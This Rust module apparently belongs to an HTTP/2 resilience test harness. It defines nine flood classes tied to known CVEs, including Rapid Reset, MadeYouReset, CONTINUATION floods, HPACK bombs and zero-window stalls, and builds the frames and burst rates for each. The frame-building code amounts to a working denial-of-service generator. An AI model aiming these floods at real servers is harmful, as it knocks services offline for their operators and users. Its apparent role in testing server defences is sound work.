//! The classes of floods, and the frames of each.

use testkit::{Http2Frame, hpack};

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Class {
    /// Requests that are reset at once (CVE-2023-44487).
    RapidReset,
    /// Requests that make the server reset them (CVE-2025-8671).
    MadeYouReset,
    /// A header block without an end (CVE-2024-27316 and others).
    Continuation,
    /// SETTINGS frames whose acknowledgements are not read (CVE-2019-9515).
    Settings,
    /// PING frames whose replies are not read (CVE-2019-9512).
    Ping,
    /// Empty DATA frames (CVE-2019-9518).
    EmptyData,
    /// Large responses that a window of 0 blocks (CVE-2019-9511, CVE-2019-9517).
    Stall,
    /// A large field, referenced a thousand times (CVE-2016-6581).
    HpackBomb,
    /// Thousands of cookie crumbs.
    Cookies,
}

impl Class {
    pub(crate) const ALL: [Self; 9] = [
        Self::RapidReset,
        Self::MadeYouReset,
        Self::Continuation,
        Self::Settings,
        Self::Ping,
        Self::EmptyData,
        Self::Stall,
        Self::HpackBomb,
        Self::Cookies,
    ];

    pub(crate) fn name(self) -> &'static str {
        match self {
            Self::RapidReset => "rapid reset",
            Self::MadeYouReset => "made you reset",
            Self::Continuation => "continuation",
            Self::Settings => "settings",
            Self::Ping => "ping",
            Self::EmptyData => "empty data",
            Self::Stall => "zero window",
            Self::HpackBomb => "hpack bomb",
            Self::Cookies => "cookie crumbs",
        }
    }

    /// The path of its requests, by which the target recognises them.
    pub(crate) fn path(self) -> String {
        let large = if self == Self::Stall { "/large" } else { "" };
        format!("{large}/flood/{}", self.name().replace(' ', "-"))
    }

    /// Returns true if its requests are reset at once, so that they cost the client almost nothing.
    pub(crate) fn is_of_resets(self) -> bool {
        matches!(self, Self::RapidReset | Self::MadeYouReset)
    }

    /// Returns true if the client reads responses.
    pub(crate) fn reads(self) -> bool {
        !matches!(self, Self::Settings | Self::Ping)
    }

    /// The SETTINGS of the client.
    pub(crate) fn settings(self) -> Vec<(u16, u32)> {
        match self {
            Self::Stall => vec![(INITIAL_WINDOW_SIZE, 0)],
            _ => Vec::new(),
        }
    }

    /// The first frames.
    pub(crate) fn beginning(self) -> Vec<Http2Frame> {
        let head = hpack::request("GET", &self.path(), &[]);
        match self {
            Self::Continuation => vec![Http2Frame::request(1, head).flags(Http2Frame::END_STREAM)],
            Self::EmptyData => {
                vec![Http2Frame::headers(1, hpack::request("POST", &self.path(), &[]))]
            }
            // The field is entry 62 of the dynamic table from now on.
            Self::HpackBomb => {
                let large = hpack::remembered("x-large", "x".repeat(LARGE_FIELD));
                vec![Http2Frame::request(1, [head, large].concat())]
            }
            Self::Cookies => {
                vec![Http2Frame::request(1, [head, hpack::remembered("cookie", "a=b")].concat())]
            }
            _ => Vec::new(),
        }
    }

    /// The frames of one step. `stream` is a new stream.
    pub(crate) fn step(self, stream: u32) -> Vec<Http2Frame> {
        let head = || hpack::request("GET", &self.path(), &[]);
        match self {
            Self::RapidReset => vec![Http2Frame::request(stream, head()), Http2Frame::reset(stream, CANCEL)],
            // Alternately an increment of 0, and one that overflows the window.
            Self::MadeYouReset => {
                let increment = if stream % 4 == 1 { 0 } else { 0x7FFF_FFFF };
                vec![Http2Frame::request(stream, head()), Http2Frame::window_update(stream, increment)]
            }
            Self::Continuation => {
                vec![Http2Frame::continuation(1, hpack::literal("x-more", "x".repeat(1000)))]
            }
            Self::Settings => vec![Http2Frame::settings(&[(MAX_CONCURRENT_STREAMS, 100)])],
            Self::Ping => vec![Http2Frame::ping(*b"floodpin")],
            Self::EmptyData => vec![Http2Frame::data(1, [])],
            Self::Stall => vec![Http2Frame::request(stream, head())],
            Self::HpackBomb => {
                vec![Http2Frame::request(
                    stream,
                    [head(), hpack::indexed(62).repeat(REPEATED_LARGE)].concat(),
                )]
            }
            Self::Cookies => {
                vec![Http2Frame::request(
                    stream,
                    [head(), hpack::indexed(62).repeat(REPEATED_COOKIES)].concat(),
                )]
            }
        }
    }

    /// How many steps are sent at once, a hundred times per second.
    pub(crate) fn burst(self) -> u32 {
        match self {
            Self::HpackBomb | Self::Cookies => 4,
            Self::Stall => 10,
            _ => 100,
        }
    }
}

const CANCEL: u32 = 8;
const MAX_CONCURRENT_STREAMS: u16 = 3;
const INITIAL_WINDOW_SIZE: u16 = 4;
/// It must fit in the 4,096 bytes of the dynamic table.
const LARGE_FIELD: usize = 4000;
/// 4 MB of fields in one kilobyte.
const REPEATED_LARGE: usize = 1000;
/// The references fit in one frame.
const REPEATED_COOKIES: usize = 16_000;
